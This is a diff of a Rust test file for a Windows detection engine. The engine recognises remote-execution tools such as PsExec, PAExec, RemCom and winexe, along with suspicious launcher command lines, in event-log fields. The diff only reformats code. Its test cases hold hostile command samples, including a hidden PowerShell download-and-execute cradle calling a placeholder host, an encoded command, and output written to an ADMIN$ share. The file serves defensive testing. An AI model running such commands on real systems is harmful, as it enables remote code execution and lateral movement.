@@ -68,12 +68,18 @@ fn forms(command: &str) -> Vec<(String, String)> {
         1,
     );
     vec![
-        ("7045 ImagePath / 4697 ServiceFileName".into(), command.to_string()),
+        (
+            "7045 ImagePath / 4697 ServiceFileName".into(),
+            command.to_string(),
+        ),
         ("Sysmon 13 Details".into(), command.replace('%', "%%")),
         ("4688 / Sysmon 1 CommandLine".into(), expanded.clone()),
         ("CommandLine, quoted shell path".into(), quoted),
         ("CommandLine, upper case".into(), expanded.to_uppercase()),
-        ("CommandLine, runs of spaces".into(), expanded.replace(' ', "  ")),
+        (
+            "CommandLine, runs of spaces".into(),
+            expanded.replace(' ', "  "),
+        ),
         (
             "CommandLine, cmd without .exe".into(),
             expanded.replace("C:\\Windows\\system32\\cmd.exe", "cmd"),
@@ -129,7 +135,11 @@ fn documented_look_alikes_stay_quiet() {
         "",
     ] {
         assert_eq!(p.tool_for_command(benign), None, "{benign}");
-        assert_eq!(p.tool_for_service(Some("Backup"), Some(benign)), None, "{benign}");
+        assert_eq!(
+            p.tool_for_service(Some("Backup"), Some(benign)),
+            None,
+            "{benign}"
+        );
     }
 }
 
@@ -156,21 +166,33 @@ fn generated_names_fire_on_any_event_naming_a_service() {
 #[test]
 fn launcher_signs_fire_on_launchers_only() {
     let p = Patterns::builtin().unwrap();
-    let signs = |c: &str| -> Vec<String> {
-        p.launcher_signs(c).iter().map(|l| l.id.clone()).collect()
-    };
+    let signs =
+        |c: &str| -> Vec<String> { p.launcher_signs(c).iter().map(|l| l.id.clone()).collect() };
     for (cmd, want) in [
         ("%COMSPEC% /c powershell -command \"whoami\"", "shell-c"),
         ("C:\\Windows\\system32\\cmd.exe /c whoami", "shell-c"),
-        ("powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "powershell-flags"),
-        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "encoded-command"),
+        (
+            "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+            "powershell-flags",
+        ),
+        (
+            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+            "encoded-command",
+        ),
         ("cmd.exe /c echo msdhch > \\\\.\\pipe\\msdhch", "pipe-echo"),
-        ("cmd.exe /c whoami > \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1", "output-to-admin-share"),
+        (
+            "cmd.exe /c whoami > \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1",
+            "output-to-admin-share",
+        ),
         ("mshta.exe vbscript:Execute(\"x\")", "script-host"),
         ("\\\\10.0.0.5\\ADMIN$\\a1b2c3d.exe", "binary-in-user-folder"),
         ("C:\\Users\\Public\\svc.exe", "binary-in-user-folder"),
     ] {
-        assert!(signs(cmd).iter().any(|s| s == want), "{cmd}: {:?}", signs(cmd));
+        assert!(
+            signs(cmd).iter().any(|s| s == want),
+            "{cmd}: {:?}",
+            signs(cmd)
+        );
     }
     for own in [
         "\"C:\\Program Files\\Acme\\agent.exe\" /service",
@@ -189,7 +211,11 @@ fn launcher_signs_fire_on_launchers_only() {
 const PIPED: &[(&str, &str, Option<&str>)] = &[
     ("psexec", "PSEXESVC", Some("PSEXESVC.exe")),
     ("psexec", "PSEXESVC-ADMIN01-4242-stdin", None),
-    ("paexec", "PAExec-4242-ADMIN01.exe", Some("PAExec-4242-ADMIN01.exe")),
+    (
+        "paexec",
+        "PAExec-4242-ADMIN01.exe",
+        Some("PAExec-4242-ADMIN01.exe"),
+    ),
     ("remcom", "RemCom_communicaton", Some("RemComSvc.exe")),
     ("remcom", "RemCom_stdin1234", None),
     ("winexe", "ahexec", Some("winexesvc.exe")),
@@ -211,7 +237,9 @@ fn every_tool_pipe_and_helper_fires_in_every_form() {
             format!("\\\\.\\pipe\\{pipe}"),
         ] {
             assert_eq!(
-                p.pipe_match(&form).map(|m| p.tools[m.tool].id.clone()).as_deref(),
+                p.pipe_match(&form)
+                    .map(|m| p.tools[m.tool].id.clone())
+                    .as_deref(),
                 Some(*tool),
                 "pipe {form}"
             );
@@ -221,9 +249,15 @@ fn every_tool_pipe_and_helper_fires_in_every_form() {
             ("7045 ImagePath", format!("%SystemRoot%\\{helper}")),
             ("Sysmon 13 Details", format!("%%SystemRoot%%\\{helper}")),
             ("4697 / Sysmon 1 Image", format!("C:\\Windows\\{helper}")),
-            ("Image, upper case", format!("C:\\WINDOWS\\{}", helper.to_uppercase())),
+            (
+                "Image, upper case",
+                format!("C:\\WINDOWS\\{}", helper.to_uppercase()),
+            ),
             ("Sysmon 11 TargetFilename", format!("C:\\Windows\\{helper}")),
-            ("5145 ADMIN$ write, as read", format!("C:\\Windows\\{helper}")),
+            (
+                "5145 ADMIN$ write, as read",
+                format!("C:\\Windows\\{helper}"),
+            ),
         ] {
             assert_eq!(
                 id(p.tool_for_service(None, Some(&form))).as_deref(),
